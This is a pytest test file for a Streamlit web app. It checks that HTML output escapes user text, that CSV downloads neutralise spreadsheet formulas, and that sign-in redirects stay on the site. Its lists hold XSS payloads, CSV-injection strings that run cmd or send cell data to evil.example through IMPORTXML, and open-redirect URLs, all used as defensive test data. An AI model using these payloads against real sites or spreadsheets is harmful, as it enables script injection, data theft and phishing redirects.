"""Texts of files and people are texts wherever they are drawn or written: no tag, no script, no formula, no way elsewhere."""

import csv
import io
from html.parser import HTMLParser

import pandas as pd
import pytest

from gridmap.maps import escape
from gridmap.web import doors, figures, messages, panels, paper, tables

PAYLOADS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "\"><img src=x onerror='window.hacked=1'>",
    "'><iframe srcdoc='<script>parent.hacked=1</script>'>",
    '<a href="javascript:window.hacked=1">看</a>',
    "</style><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "<math><mtext><img src=x onerror=window.hacked=1>",
    "<body onpageshow=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<style>@import 'http://evil.example'</style>",
    "<link rel=stylesheet href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<object data=http://evil.example>",
    "<form action=http://evil.example><button>",
    "${window.hacked=1}",
    "`${window.hacked=1}`",
    "{{window.hacked=1}}",
    "{% raw %}",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "\u2028<script>window.hacked=1</script>",
    "<\u0000script>window.hacked=1</script>",
    "<scr\u200bipt>window.hacked=1</script>",
    "＜script＞window.hacked=1＜/script＞",
    "\u202e<script>",
    "%3Cscript%3E",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(A1)",
    '=HYPERLINK("http://evil.example","看")', '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")', "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip
AWAY = [
    "http://evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "javascript:alert(1)",
    "///evil.example", "/\t/evil.example", "data:text/html,x", "", "evil.example", "/\\/evil.example",
]  # fmt: skip


class Seen(HTMLParser):
    """What a browser would make of a piece of HTML: tags, attributes, and the text between."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data


@pytest.fixture
def drawn(monkeypatch):
    """What is given to Streamlit as HTML."""
    found = []
    for module in (figures, messages, panels):
        monkeypatch.setattr(module.st, "html", lambda html, **_: found.append(html))
    return found


def harmless(html, plain):
    """The payload is in the HTML as the text that it is; what it asks for is not."""
    seen = Seen(html)
    known = Seen(plain)
    assert seen.tags == known.tags
    assert [name for name, _ in seen.attributes] == [name for name, _ in known.attributes]
    assert not [value for _, value in seen.attributes if (value or "").lower().strip().startswith("javascript:")]


SINKS = {
    "strip": lambda text: figures.strip([figures.Figure(text, text, unit=text, note=text)]),
    "place": lambda text: figures.place(text, text),
    "heading": lambda text: figures.heading(text, text),
    "mark": figures.mark,
    "empty": lambda text: messages.empty(text, text),
    "card": lambda text: panels.card(text, text, [panels.Rows(text, [(text, text)])], region=text),
}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("sink", SINKS)
def test_a_text_on_a_page_is_text(drawn, sink, payload):
    SINKS[sink](payload)
    SINKS[sink]("plain")
    harmless(drawn[0], drawn[1])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_on_a_map_and_on_the_sheet_is_text(payload):
    safe = escape.html(payload)
    assert not set(safe) & set("<>\"'`$")
    assert Seen(safe).tags == []
    harmless(paper.paper(payload, "", payload), paper.paper("plain", "", "plain"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_of_a_download_is_a_formula(formula):
    text = tables.csv(pd.DataFrame({"名称": [formula], "n": [-5]})).decode("utf-8-sig")
    name, number = list(csv.reader(io.StringIO(text, newline="")))[-1]
    assert name[0] not in "=+-@\t\r\n＝＋－＠"
    assert number == "-5"
    assert name.endswith(formula.strip("\r\n\t")[-3:])


@pytest.mark.parametrize("away", AWAY)
def test_signing_in_leads_nowhere_else(away):
    assert doors._inside(away) == "/"


@pytest.mark.parametrize("inside", ["/", "/incidents?at=990199001", "/merge"])
def test_signing_in_leads_back_to_where_one_came_from(inside):
    assert doors._inside(inside) == inside
